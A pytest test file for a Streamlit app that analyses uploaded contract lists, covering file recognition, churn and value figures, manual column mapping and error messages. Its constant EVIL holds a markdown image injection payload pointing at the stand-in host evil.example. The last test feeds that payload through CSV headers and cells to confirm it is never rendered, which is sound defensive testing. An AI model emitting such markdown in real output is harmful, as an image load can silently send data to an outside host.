"""A list of contracts on screen: uploaded, recognised, answered under Churn and Value, a word on the other pages."""

from __future__ import annotations

import gzip
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from tests.conftest import ROOT
from tests.pages.conftest import said
from tests.test_contracts import subscriptions

EVIL = "![x](http://evil.example/{p})"


@pytest.fixture(scope="module")
def days() -> bytes:
    return subscriptions(1500).to_csv(index=False).encode()


@pytest.fixture(scope="module")
def telco(shared_data: Path) -> bytes:
    return gzip.decompress((shared_data / "telco_churn.csv.gz").read_bytes())


def visit(page: str, **link: str) -> AppTest:
    app = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
    app.query_params.update(link)
    return app.run().switch_page(f"pages/{page}.py").run()


def take(app: AppTest, content: bytes, name: str = "contracts.csv") -> AppTest:
    return app.file_uploader[0].set_value([(name, content, "text/csv")]).run()


def opened(content: bytes) -> AppTest:
    return take(visit("data/source"), content).button(key="open_orders").click().run()


def go(app: AppTest, page: str) -> AppTest:
    app.switch_page(f"pages/{page}.py").run()
    assert not app.exception
    return app


def test_the_telco_file_from_upload_to_value(telco: bytes) -> None:
    app = take(visit("data/source"), telco)
    assert "This looks like a list of contracts, not orders." in said(app)
    assert "Open these contracts" in [button.label for button in app.button]
    app.button(key="open_orders").click().run()
    assert not app.exception
    assert "7,032 contracts of 7,032 customers were kept; 11 lines were left out" in said(app)
    assert "7,044 lines of the files" in app.success[0].value
    assert [box.label for box in app.sidebar.selectbox] == ["Orders"]  # no filters of orders

    churn = said(go(app, "measure/churn"))
    assert "Of 100 new contracts about 84 are still kept after 12 months" in churn and "1,869 have ended" in churn
    assert "of the 7,032 counted (11 left out) 1,869 have ended" in churn
    assert "0.82 %" in churn and "26.6 %" not in churn and "snapshot" in churn and "no month can be hidden" in churn
    table = app.table[0].value
    assert table["Ended / all"].tolist() == ["1,655 / 3,875", "48 / 1,685", "166 / 1,472"]
    assert "Month-to-month: the model misses the counted curve by up to 15 of 100 contracts, so the" in churn
    assert "One year: no model" in churn
    app.selectbox(key="contracts_by").select("PaymentMethod").run()
    assert not app.exception and len(app.table[0].value) == 4
    assert said(app).count("contracts that renew at different times are mixed here") == 4

    value = said(go(app, "measure/value"))
    assert "A new contract brings 1,333 in its first 24 months" in value and "in the file's currency" in value
    table = app.table[0].value
    for column in ("To its end", "Still to come from running ones"):  # no model is near the curve or at its best inside
        assert table[column].str.contains("counted for 24 months").all() and table[column].str.contains(r"\(").all()
    assert not table["In 24 months, 95 % sure"].str.contains("counted").any()
    assert "“Counted” is no forecast" in value
    app.number_input(key="contract_margin").set_value(50).run()
    assert not app.exception and "A new contract brings 666." in app.header[0].value.replace("\\", "")


def test_the_owner_says_which_kind_of_snapshot_it_is(telco: bytes) -> None:
    app = go(opened(telco), "measure/churn")
    app.segmented_control(key="contract_file").set_value("month").run()
    churn = said(app)
    assert not app.exception and "In that month 26.6 % of the running contracts ended" in churn
    assert "taken as one of a single month" in churn and "0.82 %" not in churn
    go(app, "measure/value").segmented_control(key="contract_file").set_value("month").run()
    assert not app.exception and "A new contract brings 115.70 in its first 24 months" in said(app)


def test_a_list_with_days_is_checked_on_hidden_months_and_valued(days: bytes) -> None:
    app = opened(days)
    churn = said(go(app, "measure/churn"))
    assert "with the last 6 months hidden, the model expected" in churn and "snapshot" not in churn
    go(app, "measure/value")
    assert app.table[0].value["To its end"].str.contains("–").all()  # a figure with its range
    assert app.table[0].value["To its end"].str.contains("counted").tolist()[0] is False  # the model fits monthly ones
    assert "contract_file" not in app.session_state  # days tell by themselves


@pytest.mark.parametrize("page", ["overview", "retention", "cohorts"])
def test_pages_of_orders_say_that_they_need_orders(days: bytes, page: str) -> None:
    app = go(opened(days), f"measure/{page}")
    assert app.title[0].value == page.capitalize()
    assert "This page counts orders; the open file is a list of contracts" in said(app)
    assert {link.label for link in app.get("page_link")} >= {"Churn", "Value"}


def test_the_glossary_and_the_sample_shops_are_as_before(days: bytes) -> None:
    app = go(opened(days), "data/glossary")
    assert "numbers and words" in said(app)
    app.sidebar.selectbox(key="shop").select("gift").run()
    go(app, "measure/retention")
    assert "list of contracts" not in said(app)


def test_a_link_asks_for_the_file_and_shows_the_same_view(days: bytes) -> None:
    app = visit("measure/churn", shop="Your uploaded orders", contracts_by="plan")
    assert "A link carries no data" in said(app)
    take(app, days).button(key="open_orders").click().run()
    assert not app.exception and app.title[0].value == "Churn"
    assert app.selectbox(key="contracts_by").value == "plan"
    assert app.table[0].value["Contracts"].tolist() == ["monthly", "yearly"]


def test_contracts_under_unknown_headers_are_named_by_hand() -> None:
    rows = "".join(f"c{n};{n % 30 + 1};{'yes' if n % 2 else 'no'}\n" for n in range(90))
    app = take(visit("data/source"), ("кой;месеци;спрял\n" + rows).encode())
    assert app.error and "Is it a list of contracts or subscriptions?" in [box.label for box in app.expander]
    for label, column in (
        ("Customer: whose contract", "кой"),
        ("Months kept", "месеци"),
        ("Ended or not", "спрял"),
    ):
        next(box for box in app.selectbox if box.label == label).select(column)
    next(button for button in app.button if button.label == "Read the file as contracts").click().run()
    assert not app.exception and not app.error
    assert "Change how the files are read, or what a column means" in [box.label for box in app.expander]
    layout = next(box for box in app.selectbox if box.label == "Layout")
    assert (
        layout.value == "contract_months" and "Contracts with the days on which they began and ended" in layout.options
    )
    next(button for button in app.button if button.label == "Read the files like this").click().run()
    assert not app.exception and not app.error
    app.button(key="open_orders").click().run()
    assert "90 contracts of 90 customers were kept" in said(app)


def test_a_column_of_recognised_contracts_can_be_named_otherwise(telco: bytes) -> None:
    app = take(visit("data/source"), telco)
    next(box for box in app.selectbox if box.label == "Amount of a month").select("TotalCharges")
    next(button for button in app.button if button.label == "Read the files like this").click().run()
    assert not app.exception and not app.error
    app.button(key="open_orders").click().run()
    assert not app.exception and "7,032 contracts of 7,032 customers were kept" in said(app)
    assert "brings 1,333 in" not in said(go(app, "measure/value"))


def test_a_file_that_is_refused_says_what_to_do() -> None:
    app = take(visit("data/source"), b"customer,tenure,churn\na,long,yes\nb,short,no\n")
    app.button(key="open_orders").click().run()
    assert not app.exception
    problem = app.error[0].value.replace("\\", "")
    assert "line 2" in problem and "months kept are no number" in problem and "What to do" in problem


def test_words_of_the_file_do_nothing_but_stand_there() -> None:
    rows = "".join(f"c{n},{n % 9 + 1},{'yes' if n % 2 else 'no'},{EVIL if n % 3 else '$5 {0}'}\n" for n in range(60))
    app = opened(f"customer,tenure,churn,{EVIL}\n{rows}".encode())
    for page in ("measure/churn", "measure/value"):
        go(app, page)
    go(app, "measure/churn").selectbox(key="contracts_by").select(EVIL).run()
    assert not app.exception and len(app.table[0].value) == 2
    shown = [str(part.value) for part in (*app.markdown, *app.caption, *app.header)]
    assert not any("![x](" in text for text in (*shown, *app.table[0].value["Contracts"]))
